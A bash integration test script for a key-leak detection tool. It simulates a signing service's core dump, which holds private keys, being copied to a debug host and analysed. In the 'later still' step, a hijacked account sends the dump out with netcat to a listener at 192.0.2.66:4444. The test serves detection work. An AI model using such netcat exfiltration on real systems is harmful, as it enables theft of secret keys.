#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# The incident, in the guest `signer`; its other host is the guest `debug` (debug.sh), in which this one
# does by ssh what is done there. Tells what happens, for a person: lines that begin with "@step " are
# headings. Ends with what was expected and came true, as tests do: "ok NAME", "not ok NAME: reason".
set -u
# shellcheck source=tests/vm/lib.sh
. /kt/tests/lib.sh
# shellcheck source=tests/vm/incident/words.sh
. /kt/tests/incident/words.sh
here=/kt/tests/incident
WAIT=1500 # by the clock of a guest, which may run three times too fast
keys=/srv/signing/keys
cores=/var/lib/systemd/coredump

# --- the stage --------------------------------------------------------------------------------------
step "two hosts: $(. /etc/os-release && echo "$PRETTY_NAME"), kernel $(uname -r), rsyslog, sshd, systemd-coredump"
useradd -m -s /bin/bash support
usermod -p '*' support
useradd -r -s /usr/sbin/nologin signer
install -m 0755 /kt/ways/signd /usr/local/sbin/signd
install -m 0644 $here/signd@.service /etc/systemd/system/
install -D -m 0644 $here/signer.policy.yaml /etc/keytrail/policy.d/70-site.yaml
install -d -m 0750 -g signer /srv/signing $keys
install -d /etc/signd
echo "SIGND_OPTIONS=--sealed" >/etc/signd/sealed
(
	umask 027
	openssl genpkey -quiet -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out $keys/token-rsa.pem
	openssl genpkey -quiet -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out $keys/token-p256.pem
	chgrp signer $keys/*.pem
	chmod 0640 $keys/*.pem
) 2>&1
for key in rsa p256; do
	openssl pkey -in $keys/token-$key.pem -pubout -out $keys/token-$key.pub
done
RSA=$(fingerprint $keys/token-rsa.pub)
P256=$(fingerprint $keys/token-p256.pub)
say "${bold}signer${plain} signs tokens, and is the home of two keys (zone signing): in $keys"
say "    token-rsa.pem   RSA 2048    $RSA"
say "    token-p256.pem  ECDSA P-256 $P256"
say "${bold}debug${plain} is where engineers look at dumps, with gdb; it also has the syslog of both"
# The support team may read dumps.
setfacl -m u:support:rx -d -m u:support:r $cores
keytrail needle make --zone signing -o /etc/keytrail/signing.needles $keys/*.pem ||
	fail "the needle file is made"
keytrail needle make --zone signing --label 'token signer' -o "$T/p256.needles" \
	$keys/token-p256.pem || fail "the other needle file is made"
accounts
greet_debug
cat >/etc/rsyslog.d/90-central.conf <<'CONF'
*.* action(type="omfwd" target="debug" port="514" protocol="tcp"
	template="RSYSLOG_SyslogProtocol23Format")
CONF
ip addr add 192.0.2.66/24 dev eth0
systemctl restart rsyslog

step "systemctl start keytraild, on both hosts"
say "what the site adds to the policy on signer, and on debug:"
site_policy signer $here/signer.policy.yaml
site_policy debug $here/debug.policy.yaml
on_debug systemctl start keytraild &
systemctl start keytraild || fail "keytraild starts"
wait $! || fail "keytraild starts on debug"
systemctl start signd@token signd@sealed || fail "the services start"
check "all keys are known" wait_for keys_known

step "the service signs"
sign_and_verify rsa token
sign_and_verify p256 token
sign_and_verify rsa sealed
sign_and_verify p256 sealed

# --- what doctor says, before anything has happened --------------------------------------------------
step "keytrail doctor --sweep, on signer: what would leak?"
pid_token=$(systemctl show -P MainPID signd@token)
pid_sealed=$(systemctl show -P MainPID signd@sealed)
keytrail doctor --sweep --quiet --json --pid "$pid_token" --pid "$pid_sealed" \
	>"$T/doctor" 2>"$T/doctor.err"
# found ID PID: severity of such findings.
found() {
	jq -r --arg id "$1" --arg pid "$2" '.findings[] |
		select(.id == $id and (.pid // "" | tostring) == $pid) | .severity' "$T/doctor"
}
jq -r '.findings[] | select(.id == "key-in-core" or .id == "dumps-shared") |
	"\(.severity)  \(.title)\(if .subject then ": " + .subject else "" end)",
	"      \(.evidence.path): \(.evidence.value)", "      mend: \(.mend)"' "$T/doctor" | sed 's/^/    /'
equal "doctor: the key would be in a core of signd@token" "$(found key-in-core "$pid_token")" high
equal "doctor: in none of signd@sealed" "$(found key-in-core "$pid_sealed")" ""
equal "doctor: whoever supports this host could read it" "$(found dumps-shared "")" high

# --- the first play ----------------------------------------------------------------------------------
step "the service crashes"
crash token
core=$CORE
check "a scan finds the keys in its core" wait_alert "$(dump_with_key "$core")"

step "later: the support team moves the dump, believed to be clean, to debug, and unpacks it there"
as support@signer "scp -q $core debug:/srv/dumps/token.core.zst"
check "that it was read is told on signer" wait_alert '.type == "isolation-breach"'
# Both hosts have something to search; what comes of it is the second play.
ask sealed "sign token-2019 hello" >/dev/null 2>&1
check "debug finds the keys in it" wait_debug_alert "$(dump_with_key /srv/dumps/token.core.zst)"
as support@debug "zstd -dq /srv/dumps/token.core.zst"
wait_for is_stored "$pid_sealed" || not_ok "systemd-coredump stores the core of signd@sealed"
check "and in the unpacked dump" wait_debug_alert "$(dump_with_key /srv/dumps/token.core)"

step "later still: somebody who got hold of dana's account on debug looks at it, and takes it away"
timeout 1000 nc -l 192.0.2.66 4444 >"$T/loot" </dev/null &
loot=$!
as dana@debug "gdb -batch -nx -c /srv/dumps/token.core -ex bt"
as dana@debug "busybox strings -n 40 /srv/dumps/token.core"
as dana@debug "nc -N 192.0.2.66 4444 </srv/dumps/token.core.zst"
wait $loot
equal "it is away" "$(stat -c %s "$T/loot")" "$(stat -c %s "$core")"

so_far
step "the trail of the RSA key across both hosts, from debug's trail and the syslog of signer that debug has"
on_debug keytrail trail --log /var/log/central.log "$RSA" | tee "$T/trail"
# on_the_way TEXT...: these stand in the trail in this order.
on_the_way() {
	local text rest
	rest=$(cat "$T/trail")
	for text; do
		[[ $rest == *"$text"* ]] || return 1
		rest=${rest#*"$text"}
	done
}
check "it leads from the service on signer to dana on debug" on_the_way "$(basename "$core")" \
	scp /srv/dumps/token.core.zst "user dana"

# --- the second play -----------------------------------------------------------------------------------
step "the same with a service all of whose memory is left out of its dumps (MADV_DONTDUMP)"
sealed=$(core_of "$pid_sealed")
check "signer has searched its core" wait_for scanned
as support@signer "scp -q $sealed debug:/srv/dumps/sealed.core.zst"
check "so has debug" wait_for on_debug_scanned
as dana@debug "busybox strings -n 40 /srv/dumps/sealed.core.zst"

so_far

# --- the third play -------------------------------------------------------------------------------------
step "keytraild is new on debug: all that it knows of the keys is a needle file"
on_debug sh -c "systemctl stop keytraild && rm -rf /var/lib/keytrail/*"
scp -q "${ssh_options[@]}" -o ControlPath=/run/to-debug "$T/p256.needles" \
	root@debug:/etc/keytrail/signing.needles
on_debug systemctl start keytraild || fail "keytraild starts anew"
as dana@debug "busybox strings -n 40 /srv/dumps/token.core"
check "who read the dump before it was scanned is told of then, by the needle's label and zone" \
	wait_debug_alert '.type == "isolation-breach" and .breach.zone == "signing" and
		.breach.rotate.fingerprint == "'"$P256"'" and
		any(.scan.keys[]; .label == "token signer" and .zone == "signing")'

# --- what came of it ------------------------------------------------------------------------------------
kt_barrier || not_ok "signer has told all"
on_debug sh -c 'T=/root; . /kt/tests/lib.sh; kt_barrier' || not_ok "debug has told all"
so_far
for host in signer debug; do
	if diff "$here/expected-$host" "$T/told-$host" >"$T/diff"; then
		ok "$host: $(wc -l <"$here/expected-$host") alerts, none missing, none extra, in this order"
	else
		not_ok "$host: its alerts are those expected" "$(cat "$T/diff")"
		note "all that $host told: $(jq -c '[.id[:8], .type, .severity, .text]' "$T/$host.jsonl")"
	fi
done
check "nothing of the keys is in any log or database" no_key_bytes
on_debug touch /run/over
